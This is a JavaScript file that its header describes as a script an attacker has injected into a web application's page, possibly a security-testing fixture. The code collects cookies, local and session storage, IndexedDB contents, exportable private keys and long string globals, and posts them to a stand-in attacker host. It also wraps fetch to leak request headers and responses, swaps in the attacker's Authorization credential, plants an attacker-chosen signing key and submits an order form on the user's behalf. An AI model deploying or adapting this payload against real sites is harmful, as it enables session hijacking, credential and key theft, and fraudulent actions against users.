// Script that an attacker got into the application's page. It can do what the page can do, and it tells the
// attacker's site what it finds.

(() => {
  const tell = (found) =>
    realFetch("https://evil.test/collect", { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
  const realFetch = window.fetch.bind(window);

  // Whatever is in a database of the page; of a key, whether its bytes can be had.
  async function databases() {
    const found = [];
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of database.objectStoreNames) {
        const values = await new Promise((resolve, reject) => {
          const asked = database.transaction(store).objectStore(store).getAll();
          asked.onsuccess = () => resolve(asked.result);
          asked.onerror = () => reject(asked.error);
        });
        for (const value of values) {
          const key = value && value.privateKey;
          found.push(
            key instanceof CryptoKey
              ? await crypto.subtle.exportKey("jwk", key).then(JSON.stringify, () => "a key that cannot be read")
              : JSON.stringify(value),
          );
        }
      }
      database.close();
    }
    return found;
  }

  const globals = () =>
    Object.fromEntries(Object.entries(window).filter(([, value]) => typeof value === "string" && value.length > 20));

  window.injected = {
    loot: async () => tell({
      kind: "loot",
      cookies: document.cookie,
      local: { ...localStorage },
      session: { ...sessionStorage },
      databases: await databases(),
      globals: globals(),
    }),
    // Tell of each request of the page and of each JSON answer. `held`: the request itself is never sent.
    hook: (held) => {
      window.fetch = async (address, options = {}) => {
        const headers = Object.fromEntries(new Headers(options.headers));
        await tell({ kind: "request", method: options.method || "GET", path: String(address), headers });
        if (held) return new Response("{}", { status: 503 });
        const answer = await realFetch(address, options);
        answer.clone().json().then((body) => tell({ kind: "answer", path: String(address), body }), () => {});
        return answer;
      };
    },
    // Exchange the credential of each request of the page for the attacker's.
    exchange: (authorization) => {
      window.fetch = (address, options = {}) => {
        const headers = new Headers(options.headers);
        headers.set("Authorization", authorization);
        return realFetch(address, { ...options, headers });
      };
    },
    // Exchange the key of the page's client for the attacker's.
    plantKey: async (jwk) => {
      const algorithm = { name: "ECDSA", namedCurve: "P-256" };
      const { crv, kty, x, y } = jwk;
      const pair = {
        privateKey: await crypto.subtle.importKey("jwk", { crv, kty, x, y, d: jwk.d }, algorithm, false, ["sign"]),
        publicKey: await crypto.subtle.importKey("jwk", { crv, kty, x, y }, algorithm, true, ["verify"]),
      };
      await new Promise((resolve, reject) => {
        const opening = indexedDB.open("client", 1);
        opening.onupgradeneeded = () => opening.result.createObjectStore("keys");
        opening.onerror = () => reject(opening.error);
        opening.onsuccess = () => {
          const writing = opening.result.transaction("keys", "readwrite");
          writing.objectStore("keys").put(pair, "proof");
          writing.oncomplete = () => { opening.result.close(); resolve(); };
          writing.onerror = () => reject(writing.error);
        };
      });
    },
    // Use the page as its user does.
    act: (item) => {
      const form = document.getElementById("order");
      form.elements.namedItem("item").value = item;
      form.requestSubmit();
    },
  };
})();
